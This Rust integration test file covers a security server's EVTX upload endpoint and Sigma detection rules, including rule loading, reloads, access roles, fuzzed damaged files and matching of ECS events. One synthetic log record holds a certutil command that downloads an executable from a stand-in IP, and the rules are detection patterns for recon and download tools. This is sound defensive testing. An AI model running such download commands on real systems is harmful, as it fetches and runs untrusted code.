//! Sigma rules in the server: EVTX uploads through `POST /api/v1/evtx`, the `sigma`
//! analyzer's findings, the rule listing and reloads, and the same rule firing on an EVTX
//! record and on a plain ECS event. The EVTX files are built in code (`vigil_evtx::synth`).

mod common;

use axum::http::StatusCode;
use common::*;
use serde_json::{Value, json};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;
use vigil_evtx::synth::{SynthEvent, evtx_file};
use vigil_server::sigma::{SigmaConfig, SigmaService};

const WHOAMI_ID: &str = "5f0c2a52-7a0b-4c9e-9a37-1d0c7f3b2a01";
const LOGON_ID: &str = "8e3d6b1f-2c4a-4f5e-b6a7-3c9d0e1f2a02";
const BROKEN_ID: &str = "0b1c2d3e-4f50-4617-8293-a4b5c6d7e803";
const CERTUTIL_ID: &str = "c7d8e9f0-1a2b-4c3d-8e4f-5a6b7c8d9e04";

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";

/// A Sysmon/Security process-creation rule, `CommandLine|contains|all`.
const WHOAMI_RULE: &str = r#"
title: Whoami All Recon
id: 5f0c2a52-7a0b-4c9e-9a37-1d0c7f3b2a01
status: test
description: cmd.exe running whoami /all
references:
    - https://example.invalid/whoami
tags:
    - attack.discovery
    - attack.t1033
    - attack.t1059.003
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\cmd.exe'
        CommandLine|contains|all:
            - 'whoami'
            - '/all'
    condition: selection
falsepositives:
    - Admins
level: high
"#;

/// A Security 4625 (failed logon) rule.
const LOGON_RULE: &str = r#"
title: Failed Administrator Logon
id: 8e3d6b1f-2c4a-4f5e-b6a7-3c9d0e1f2a02
status: stable
tags:
    - attack.credential_access
    - attack.t1110
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID: 4625
        TargetUserName: 'Administrator'
    condition: selection
level: medium
"#;

/// The condition names a search identifier that does not exist.
const BROKEN_RULE: &str = r#"
title: Broken Rule
id: 0b1c2d3e-4f50-4617-8293-a4b5c6d7e803
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\foo.exe'
    condition: selection and not nosuchthing
level: low
"#;

/// Added to the folder later, then loaded by a reload.
const CERTUTIL_RULE: &str = r#"
title: Certutil Download
id: c7d8e9f0-1a2b-4c3d-8e4f-5a6b7c8d9e04
tags:
    - attack.command_and_control
    - attack.t1105
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\certutil.exe'
        CommandLine|contains: 'urlcache'
    condition: selection
level: critical
"#;

fn rules_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("proc_whoami.yml"), WHOAMI_RULE).unwrap();
    std::fs::write(dir.path().join("sec_failed_logon.yml"), LOGON_RULE).unwrap();
    std::fs::write(dir.path().join("broken.yml"), BROKEN_RULE).unwrap();
    dir
}

fn sigma_config(dir: &Path) -> SigmaConfig {
    SigmaConfig {
        rules: vec![dir.to_path_buf()],
        ..SigmaConfig::default()
    }
}

/// The harness with the Sigma service and its analyzer, on a fresh rules folder.
async fn sigma_harness_with(config: SigmaConfig) -> (Harness, Arc<SigmaService>) {
    let mut h = harness().await;
    let svc = tokio::task::spawn_blocking(move || SigmaService::load(config))
        .await
        .unwrap()
        .expect("the rules load");
    h.state.sigma = Some(svc.clone());
    h.registry.register(svc.analyzer());
    (h, svc)
}

async fn sigma_harness() -> (Harness, Arc<SigmaService>, tempfile::TempDir) {
    let dir = rules_dir();
    let (h, svc) = sigma_harness_with(sigma_config(dir.path())).await;
    (h, svc, dir)
}

fn sysmon_process(record_id: u64, computer: &str, image: &str, command_line: &str) -> SynthEvent {
    let mut e = SynthEvent::new(record_id, 1)
        .with_data("Image", image)
        .with_data("CommandLine", command_line)
        .with_data("ParentImage", r"C:\Windows\explorer.exe")
        .with_data("User", r"CORP\jdoe")
        .with_data("ProcessId", 4460u32);
    e.provider = "Microsoft-Windows-Sysmon".into();
    e.channel = SYSMON.into();
    e.computer = computer.into();
    e
}

fn failed_logon(record_id: u64, computer: &str, user: &str) -> SynthEvent {
    let mut e = SynthEvent::new(record_id, 4625)
        .with_data("TargetUserName", user)
        .with_data("TargetDomainName", "CORP")
        .with_data("IpAddress", "10.0.0.5")
        .with_data("LogonType", 3u32);
    e.provider = "Microsoft-Windows-Security-Auditing".into();
    e.channel = "Security".into();
    e.computer = computer.into();
    e
}

/// Sysmon 1 that matches the whoami rule, Sysmon 1 that does not, Security 4625 that matches
/// the logon rule.
fn sample_log() -> Vec<u8> {
    evtx_file(&[
        sysmon_process(
            101,
            "WS-01",
            r"C:\Windows\System32\cmd.exe",
            "cmd.exe /c whoami /all",
        ),
        sysmon_process(
            102,
            "WS-01",
            r"C:\Windows\System32\notepad.exe",
            r"notepad.exe C:\notes\whoami.txt",
        ),
        failed_logon(103, "DC-01", "Administrator"),
    ])
}

async fn upload(h: &Harness, bytes: Vec<u8>) -> Reply {
    h.call("POST", "/api/v1/evtx", Some(&h.agent), bytes).await
}

/// Polls `GET path` until the array at `key` has at least `n` items (5 s at most).
async fn poll_at_least(h: &Harness, path: &str, key: &str, n: usize) -> Vec<Value> {
    let mut found = Vec::new();
    for _ in 0..100 {
        let r = h.call("GET", path, Some(&h.viewer), Vec::new()).await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text);
        found = r.body[key].as_array().cloned().unwrap_or_default();
        if found.len() >= n {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    found
}

async fn sigma_findings(h: &Harness, n: usize) -> Vec<Value> {
    poll_at_least(
        h,
        "/api/v1/findings?analyzer=sigma&limit=100",
        "findings",
        n,
    )
    .await
}

fn by_rule<'a>(findings: &'a [Value], rule_id: &str) -> Vec<&'a Value> {
    findings
        .iter()
        .filter(|f| f["evidence"]["rule_id"] == rule_id)
        .collect()
}

/// Waits until the pipeline has analyzed everything sent before: an `alert` event's
/// finding (from the harness's test analyzer) shows up, then a little longer.
async fn settle(h: &Harness, tag: &str) {
    let r = h
        .call(
            "POST",
            "/api/v1/events",
            Some(&h.agent),
            json!({"message": format!("alert settle {tag}")}).to_string(),
        )
        .await;
    assert_eq!(r.status, StatusCode::ACCEPTED, "{}", r.text);
    let id = r.body["ids"][0].as_str().unwrap().to_string();
    let f = h
        .poll_list(&format!("/api/v1/findings?event.id={id}"), "findings")
        .await;
    assert!(!f.is_empty(), "the settle event was never analyzed");
    tokio::time::sleep(Duration::from_millis(300)).await;
}

#[tokio::test]
async fn an_evtx_upload_is_counted_stored_and_makes_sigma_findings() {
    let (h, _svc, _dir) = sigma_harness().await;
    let r = upload(&h, sample_log()).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(
        r.body,
        json!({"records": 3, "accepted": 3, "duplicates": 0, "bad_records": 0, "bad_chunks": 0}),
        "{}",
        r.text
    );

    let findings = sigma_findings(&h, 2).await;
    assert_eq!(findings.len(), 2, "{findings:#?}");

    // Sysmon 1 with the matching command line.
    let whoami = by_rule(&findings, WHOAMI_ID);
    assert_eq!(whoami.len(), 1, "{findings:#?}");
    let f = whoami[0];
    assert_eq!(f["analyzer"], "sigma");
    assert_eq!(f["summary"], "Sigma: Whoami All Recon");
    assert_eq!(f["severity"], "high");
    assert_eq!(f["host.name"], "WS-01");
    assert_eq!(f["techniques"], json!(["T1033", "T1059.003"]));
    let ev = &f["evidence"];
    assert_eq!(ev["rule_title"], "Whoami All Recon");
    assert_eq!(ev["level"], "high");
    assert_eq!(ev["status"], "test");
    assert_eq!(
        ev["tags"],
        json!(["attack.discovery", "attack.t1033", "attack.t1059.003"])
    );
    assert_eq!(ev["references"], json!(["https://example.invalid/whoami"]));
    assert_eq!(ev["falsepositives"], json!(["Admins"]));
    assert_eq!(ev["matched"]["CommandLine"], "cmd.exe /c whoami /all");
    assert_eq!(ev["matched"]["Image"], r"C:\Windows\System32\cmd.exe");
    let event_ids = f["event_ids"].as_array().unwrap();
    assert_eq!(event_ids.len(), 1);
    let whoami_event = event_ids[0].as_str().unwrap().to_string();
    assert!(whoami_event.starts_with("evtx-"), "{whoami_event}");

    // Security 4625.
    let logon = by_rule(&findings, LOGON_ID);
    assert_eq!(logon.len(), 1, "{findings:#?}");
    let f = logon[0];
    assert_eq!(f["summary"], "Sigma: Failed Administrator Logon");
    assert_eq!(f["severity"], "medium");
    assert_eq!(f["host.name"], "DC-01");
    assert_eq!(f["techniques"], json!(["T1110"]));
    assert_eq!(f["evidence"]["level"], "medium");
    assert_eq!(f["evidence"]["matched"]["TargetUserName"], "Administrator");
    assert_eq!(f["evidence"]["matched"]["EventID"], "4625");

    // The stored event keeps the record's winlog fields and the ECS basics.
    let r = h
        .call(
            "GET",
            &format!("/api/v1/events/{whoami_event}"),
            Some(&h.viewer),
            Vec::new(),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let e = &r.body;
    assert_eq!(e["host"]["name"], "WS-01");
    assert_eq!(e["event"]["module"], "evtx");
    assert_eq!(e["event"]["code"], "1");
    assert_eq!(e["event"]["category"], json!(["process"]));
    assert_eq!(e["winlog"]["channel"], SYSMON);
    assert_eq!(e["winlog"]["event_id"], "1");
    assert_eq!(e["winlog"]["record_id"], 101);
    assert_eq!(e["winlog"]["provider_name"], "Microsoft-Windows-Sysmon");
    assert_eq!(e["winlog"]["computer_name"], "WS-01");
    assert_eq!(
        e["winlog"]["event_data"]["CommandLine"],
        "cmd.exe /c whoami /all"
    );
    assert_eq!(e["winlog"]["event_data"]["ProcessId"], 4460);
    assert_eq!(e["process"]["command_line"], "cmd.exe /c whoami /all");
    assert_eq!(e["process"]["name"], "cmd.exe");
    assert_eq!(e["user"]["name"], r"CORP\jdoe");
    assert_eq!(e["@timestamp"], "2024-01-01T00:01:41.000000Z");

    // Searchable: by host, by category, by free text.
    let hits = poll_at_least(&h, "/api/v1/events?host.name=WS-01", "events", 2).await;
    assert_eq!(hits.len(), 2);
    assert!(hits.iter().all(|e| e["winlog"]["channel"] == SYSMON));
    let hits = poll_at_least(&h, "/api/v1/events?q=notes", "events", 1).await;
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0]["winlog"]["record_id"], 102);
    let hits = poll_at_least(
        &h,
        "/api/v1/events?event.category=authentication",
        "events",
        1,
    )
    .await;
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0]["winlog"]["event_id"], "4625");
    assert_eq!(
        hits[0]["winlog"]["event_data"]["TargetUserName"],
        "Administrator"
    );
}

#[tokio::test]
async fn the_same_file_twice_stores_nothing_new_and_makes_no_new_findings() {
    let (h, _svc, _dir) = sigma_harness().await;
    let log = sample_log();
    let r = upload(&h, log.clone()).await;
    assert_eq!(r.body["accepted"], 3, "{}", r.text);
    assert_eq!(sigma_findings(&h, 2).await.len(), 2);

    let r = upload(&h, log).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(
        r.body,
        json!({"records": 3, "accepted": 0, "duplicates": 3, "bad_records": 0, "bad_chunks": 0})
    );
    // The pipeline does not analyze duplicates again (`Pipeline::ingest`): no new findings.
    settle(&h, "twice").await;
    let findings = sigma_findings(&h, 3).await;
    assert_eq!(findings.len(), 2, "{findings:#?}");
    let events = poll_at_least(&h, "/api/v1/events?host.name=WS-01", "events", 3).await;
    assert_eq!(events.len(), 2, "stored twice: {events:#?}");
}

#[tokio::test]
async fn damaged_or_foreign_files_are_refused_or_read_in_part_never_a_500() {
    let (h, _svc, _dir) = sigma_harness().await;
    let good = sample_log();

    // Not EVTX at all: refused whole.
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89"
        .iter()
        .copied()
        .cycle()
        .take(8192)
        .collect::<Vec<u8>>();
    let mut seed = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let random: Vec<u8> = (0..100_000).map(|_| next() as u8).collect();
    for (what, bytes) in [
        ("png", png),
        ("random", random),
        ("text", b"hello, this is not a log".to_vec()),
        ("magic only", b"ElfFile\0".to_vec()),
        ("header cut short", good[..2000].to_vec()),
    ] {
        let r = upload(&h, bytes).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{what}: {}", r.text);
        assert_eq!(error_code(&r), "invalid_evtx", "{what}: {}", r.text);
    }

    // A file cut inside its chunk: what is before the cut is read, the rest counted.
    let r = upload(&h, good[..4096 + 3000].to_vec()).await;
    assert_eq!(r.status, StatusCode::OK, "truncated: {}", r.text);
    assert!(r.body["records"].as_u64().unwrap() < 3, "{}", r.text);
    assert!(
        r.body["bad_records"].as_u64().unwrap() + r.body["bad_chunks"].as_u64().unwrap() >= 1,
        "the cut is reported: {}",
        r.text
    );

    // A chunk whose magic is gone: no records, the chunk is counted as bad.
    let mut bad_chunk = good.clone();
    bad_chunk[4096..4096 + 8].copy_from_slice(b"NotAChnk");
    let r = upload(&h, bad_chunk).await;
    assert_eq!(r.status, StatusCode::OK, "bad chunk: {}", r.text);
    assert_eq!(r.body["records"], 0, "{}", r.text);
    assert!(r.body["bad_chunks"].as_u64().unwrap() >= 1, "{}", r.text);

    // Many deterministic mutations of a valid file: each answer is a 200 or a 400.
    let mut statuses = std::collections::BTreeMap::new();
    for i in 0..150u64 {
        let mut bytes = good.clone();
        match i % 3 {
            0 => {
                // Overwrite a few bytes anywhere.
                for _ in 0..1 + next() % 8 {
                    let at = (next() as usize) % bytes.len();
                    bytes[at] = next() as u8;
                }
            }
            1 => {
                // Damage the first chunk's header and records (past the file header).
                for _ in 0..1 + next() % 16 {
                    let at = 4096 + (next() as usize) % 4096;
                    bytes[at] ^= 1 << (next() % 8);
                }
            }
            _ => {
                let cut = 1 + (next() as usize) % (bytes.len() - 1);
                bytes.truncate(cut);
            }
        }
        let r = upload(&h, bytes).await;
        assert!(
            r.status == StatusCode::OK || r.status == StatusCode::BAD_REQUEST,
            "mutation {i}: {} {}",
            r.status,
            r.text
        );
        if r.status == StatusCode::BAD_REQUEST {
            assert_eq!(error_code(&r), "invalid_evtx", "mutation {i}: {}", r.text);
        }
        *statuses.entry(r.status.as_u16()).or_insert(0) += 1;
    }
    eprintln!("mutated uploads by status: {statuses:?}");
    assert!(statuses.contains_key(&200), "{statuses:?}");
}

#[tokio::test]
async fn uploads_need_a_body_an_agent_key_and_respect_the_size_limit() {
    let (h, _svc, _dir) = sigma_harness().await;
    let r = upload(&h, Vec::new()).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.text);
    assert_eq!(error_code(&r), "empty_body");

    let r = h
        .call("POST", "/api/v1/evtx", Some(&h.viewer), sample_log())
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text);
    let r = h.call("POST", "/api/v1/evtx", None, sample_log()).await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED, "{}", r.text);
    // An admin may upload too (admin includes agent).
    let r = h
        .call("POST", "/api/v1/evtx", Some(&h.admin), sample_log())
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);

    // `max_evtx_bytes` bounds the body.
    let dir = rules_dir();
    let (small, _) = sigma_harness_with(SigmaConfig {
        max_evtx_bytes: 16 * 1024,
        ..sigma_config(dir.path())
    })
    .await;
    let log = sample_log();
    assert!(log.len() > 16 * 1024);
    let r = upload(&small, log).await;
    assert_eq!(r.status, StatusCode::PAYLOAD_TOO_LARGE, "{}", r.text);
    assert_eq!(error_code(&r), "payload_too_large");

    // Without Sigma configured, uploads still work (events stored, no Sigma findings).
    let plain = harness().await;
    let r = upload(&plain, sample_log()).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(r.body["accepted"], 3, "{}", r.text);
}

#[tokio::test]
async fn the_rules_listing_shows_loaded_and_refused_rules() {
    let (h, _svc, dir) = sigma_harness().await;
    let r = h
        .call("GET", "/api/v1/sigma/rules", Some(&h.viewer), Vec::new())
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let b = &r.body;
    assert_eq!(b["files"], 3, "{}", r.text);
    assert_eq!(b["loaded"], 2, "{}", r.text);
    assert!(b["loaded_at"].as_str().is_some_and(|t| t.ends_with('Z')));
    let rejected = b["rejected"].as_array().unwrap();
    assert_eq!(rejected.len(), 1, "{}", r.text);
    assert_eq!(rejected[0]["id"], BROKEN_ID);
    assert_eq!(rejected[0]["title"], "Broken Rule");
    assert_eq!(
        rejected[0]["path"],
        dir.path().join("broken.yml").display().to_string()
    );
    let reason = rejected[0]["reason"].as_str().unwrap();
    assert!(reason.contains("nosuchthing"), "{reason}");

    let rules = b["rules"].as_array().unwrap();
    assert_eq!(rules.len(), 2);
    let whoami = rules.iter().find(|r| r["id"] == WHOAMI_ID).unwrap();
    assert_eq!(whoami["title"], "Whoami All Recon");
    assert_eq!(whoami["level"], "high");
    assert_eq!(whoami["status"], "test");
    assert_eq!(
        whoami["logsource"],
        json!({"product": "windows", "category": "process_creation", "service": null})
    );
    assert!(
        whoami["path"]
            .as_str()
            .unwrap()
            .ends_with("proc_whoami.yml")
    );
    let logon = rules.iter().find(|r| r["id"] == LOGON_ID).unwrap();
    assert_eq!(logon["logsource"]["service"], "security");

    // Roles: viewers and admins read it; agents do not; nobody without a key.
    let r = h
        .call("GET", "/api/v1/sigma/rules", Some(&h.admin), Vec::new())
        .await;
    assert_eq!(r.status, StatusCode::OK);
    let r = h
        .call("GET", "/api/v1/sigma/rules", Some(&h.agent), Vec::new())
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text);
    let r = h.call("GET", "/api/v1/sigma/rules", None, Vec::new()).await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);

    // Without Sigma: 503 on both routes.
    let plain = harness().await;
    let r = plain
        .call(
            "GET",
            "/api/v1/sigma/rules",
            Some(&plain.viewer),
            Vec::new(),
        )
        .await;
    assert_eq!(r.status, StatusCode::SERVICE_UNAVAILABLE, "{}", r.text);
    assert_eq!(error_code(&r), "unavailable");
    let r = plain
        .call(
            "POST",
            "/api/v1/sigma/reload",
            Some(&plain.admin),
            Vec::new(),
        )
        .await;
    assert_eq!(r.status, StatusCode::SERVICE_UNAVAILABLE, "{}", r.text);
}

#[tokio::test]
async fn a_reload_picks_up_a_new_rule_which_then_fires() {
    let (h, svc, dir) = sigma_harness().await;
    std::fs::write(dir.path().join("proc_certutil.yml"), CERTUTIL_RULE).unwrap();

    // Only admins reload.
    for key in [&h.viewer, &h.agent] {
        let r = h
            .call("POST", "/api/v1/sigma/reload", Some(key), Vec::new())
            .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text);
    }
    assert_eq!(svc.summary().loaded, 2, "a refused reload changed nothing");

    let r = h
        .call("POST", "/api/v1/sigma/reload", Some(&h.admin), Vec::new())
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(r.body["files"], 4, "{}", r.text);
    assert_eq!(r.body["loaded"], 3, "{}", r.text);
    assert_eq!(
        r.body["rejected"].as_array().unwrap().len(),
        1,
        "{}",
        r.text
    );
    assert!(r.body["loaded_at"].is_string());

    let r = h
        .call("GET", "/api/v1/sigma/rules", Some(&h.viewer), Vec::new())
        .await;
    assert_eq!(r.body["loaded"], 3);
    assert!(
        r.body["rules"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r["id"] == CERTUTIL_ID)
    );

    let log = evtx_file(&[sysmon_process(
        201,
        "WS-02",
        r"C:\Windows\System32\certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe",
    )]);
    let r = upload(&h, log).await;
    assert_eq!(r.body["accepted"], 1, "{}", r.text);
    let findings = sigma_findings(&h, 1).await;
    assert_eq!(findings.len(), 1, "{findings:#?}");
    let f = &findings[0];
    assert_eq!(f["evidence"]["rule_id"], CERTUTIL_ID);
    assert_eq!(f["severity"], "critical");
    assert_eq!(f["host.name"], "WS-02");
    assert_eq!(f["techniques"], json!(["T1105"]));
    assert_eq!(
        f["evidence"]["matched"]["Image"],
        r"C:\Windows\System32\certutil.exe"
    );
}

#[tokio::test]
async fn a_failed_reload_keeps_the_rules_in_place() {
    let parent = tempfile::tempdir().unwrap();
    let rules = parent.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(rules.join("proc_whoami.yml"), WHOAMI_RULE).unwrap();
    let (h, svc) = sigma_harness_with(sigma_config(&rules)).await;
    assert_eq!(svc.summary().loaded, 1);

    std::fs::remove_dir_all(&rules).unwrap();
    let r = h
        .call("POST", "/api/v1/sigma/reload", Some(&h.admin), Vec::new())
        .await;
    assert_eq!(r.status, StatusCode::SERVICE_UNAVAILABLE, "{}", r.text);
    assert!(
        r.body["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("not a folder")),
        "{}",
        r.text
    );
    let r = h
        .call("GET", "/api/v1/sigma/rules", Some(&h.viewer), Vec::new())
        .await;
    assert_eq!(r.body["loaded"], 1, "{}", r.text);
    let r = upload(&h, sample_log()).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let findings = sigma_findings(&h, 1).await;
    assert_eq!(by_rule(&findings, WHOAMI_ID).len(), 1, "{findings:#?}");
}

#[tokio::test]
async fn one_rule_fires_on_an_evtx_record_and_on_a_plain_ecs_event() {
    let (h, _svc, _dir) = sigma_harness().await;
    let r = upload(&h, sample_log()).await;
    assert_eq!(r.body["accepted"], 3, "{}", r.text);

    // An EDR-style ECS process start on a Windows host, no `winlog` at all. The mapping
    // (crates/vigil-sigma/data/ecs.toml) needs `host.os.type` (or `host.os.family`) for the
    // product and `event.category: process` + `event.type: start` for the category;
    // `process.executable` becomes `Image`, `process.command_line` `CommandLine`.
    let ecs = json!({
        "host": {"name": "ws-ecs", "os": {"type": "windows"}},
        "event": {"category": ["process"], "type": ["start"]},
        "process": {
            "executable": r"C:\Windows\System32\cmd.exe",
            "command_line": r"C:\Windows\System32\cmd.exe /c WHOAMI /ALL",
            "pid": 77
        }
    });
    let r = h
        .call("POST", "/api/v1/events", Some(&h.agent), ecs.to_string())
        .await;
    assert_eq!(r.status, StatusCode::ACCEPTED, "{}", r.text);
    let ecs_id = r.body["ids"][0].as_str().unwrap().to_string();

    let findings = sigma_findings(&h, 3).await;
    let whoami = by_rule(&findings, WHOAMI_ID);
    assert_eq!(whoami.len(), 2, "{findings:#?}");
    let from_ecs = whoami
        .iter()
        .find(|f| f["event_ids"][0] == ecs_id.as_str())
        .expect("a finding about the ECS event");
    let from_evtx = whoami
        .iter()
        .find(|f| f["event_ids"][0] != ecs_id.as_str())
        .unwrap();
    assert_eq!(from_ecs["host.name"], "ws-ecs");
    assert_eq!(from_evtx["host.name"], "WS-01");
    assert_eq!(from_ecs["severity"], "high");
    assert_eq!(from_ecs["techniques"], from_evtx["techniques"]);
    assert_eq!(
        from_ecs["evidence"]["matched"]["CommandLine"],
        r"C:\Windows\System32\cmd.exe /c WHOAMI /ALL"
    );

    // Without the OS or without the process-start type the event is not a Windows process
    // creation, and the rule does not describe it.
    for (tag, ev) in [
        (
            "no os",
            json!({"host": {"name": "ws-noos"}, "event": {"category": ["process"], "type": ["start"]},
                   "process": {"executable": r"C:\x\cmd.exe", "command_line": "cmd /c whoami /all"}}),
        ),
        (
            "no type",
            json!({"host": {"name": "ws-notype", "os": {"type": "windows"}}, "event": {"category": ["process"]},
                   "process": {"executable": r"C:\x\cmd.exe", "command_line": "cmd /c whoami /all"}}),
        ),
    ] {
        let r = h
            .call("POST", "/api/v1/events", Some(&h.agent), ev.to_string())
            .await;
        assert_eq!(r.status, StatusCode::ACCEPTED, "{tag}: {}", r.text);
    }
    settle(&h, "ecs").await;
    let findings = sigma_findings(&h, 4).await;
    assert_eq!(by_rule(&findings, WHOAMI_ID).len(), 2, "{findings:#?}");
}

#[tokio::test]
async fn a_winlogbeat_event_is_read_as_the_windows_record_it_was() {
    let (h, _svc, _dir) = sigma_harness().await;
    // Winlogbeat ships `winlog.*` with a numeric event id; the analyzer rebuilds the EVTX
    // layout from it and the Security service rule applies.
    let ev = json!({
        "@timestamp": "2025-03-01T10:00:00Z",
        "host": {"name": "dc-02"},
        "event": {"code": "4625", "provider": "Microsoft-Windows-Security-Auditing"},
        "winlog": {
            "channel": "Security",
            "event_id": 4625,
            "provider_name": "Microsoft-Windows-Security-Auditing",
            "computer_name": "dc-02.corp.example",
            "record_id": 9001,
            "event_data": {"TargetUserName": "Administrator", "LogonType": "3"}
        }
    });
    let r = h
        .call("POST", "/api/v1/events", Some(&h.agent), ev.to_string())
        .await;
    assert_eq!(r.status, StatusCode::ACCEPTED, "{}", r.text);
    let findings = sigma_findings(&h, 1).await;
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert_eq!(findings[0]["evidence"]["rule_id"], LOGON_ID);
    assert_eq!(findings[0]["host.name"], "dc-02");
}

#[tokio::test]
async fn min_level_drops_findings_below_it() {
    let dir = rules_dir();
    let (h, _svc) = sigma_harness_with(SigmaConfig {
        min_level: "high".into(),
        ..sigma_config(dir.path())
    })
    .await;
    let r = upload(&h, sample_log()).await;
    assert_eq!(r.body["accepted"], 3, "{}", r.text);
    settle(&h, "min_level").await;
    let findings = sigma_findings(&h, 2).await;
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert_eq!(findings[0]["evidence"]["rule_id"], WHOAMI_ID);

    let bad = SigmaService::load(SigmaConfig {
        min_level: "severe".into(),
        ..sigma_config(dir.path())
    });
    assert!(bad.is_err_and(|e| e.contains("severe")));
    let missing = SigmaService::load(sigma_config(&dir.path().join("nope")));
    assert!(missing.is_err_and(|e| e.contains("not a folder")));
}

#[tokio::test]
async fn a_log_bigger_than_a_bulk_request_is_ingested_in_parts() {
    let dir = rules_dir();
    let config = sigma_config(dir.path());
    let mut h = harness_with(
        vigil_server::ServerConfig {
            max_bulk_events: 2,
            ..Default::default()
        },
        vigil_pipeline::PipelineConfig::default(),
        vigil_server::AuthConfig::default(),
    )
    .await;
    let svc = SigmaService::load(config).unwrap();
    h.state.sigma = Some(svc.clone());
    h.registry.register(svc.analyzer());
    let r = upload(&h, sample_log()).await;
    assert_eq!(
        r.body,
        json!({"records": 3, "accepted": 3, "duplicates": 0, "bad_records": 0, "bad_chunks": 0}),
        "{}",
        r.text
    );
    assert_eq!(sigma_findings(&h, 2).await.len(), 2);
}

/// An EVTX file cannot be split by its sender, so the handler must feed the pipeline in parts
/// it accepts: no larger than `server.max_bulk_events` nor `pipeline.ingest_queue` (a
/// regression test: it once cut by the first only, and a log with more records than the queue
/// holds was refused whole with `400 too_many_events`).
#[tokio::test]
async fn a_log_bigger_than_the_ingest_queue_is_still_ingested() {
    let dir = rules_dir();
    let config = sigma_config(dir.path());
    let mut h = harness_with(
        vigil_server::ServerConfig::default(),
        vigil_pipeline::PipelineConfig {
            ingest_queue: 2,
            ..Default::default()
        },
        vigil_server::AuthConfig::default(),
    )
    .await;
    let svc = SigmaService::load(config).unwrap();
    h.state.sigma = Some(svc.clone());
    h.registry.register(svc.analyzer());
    let r = upload(&h, sample_log()).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(r.body["accepted"], 3, "{}", r.text);
}
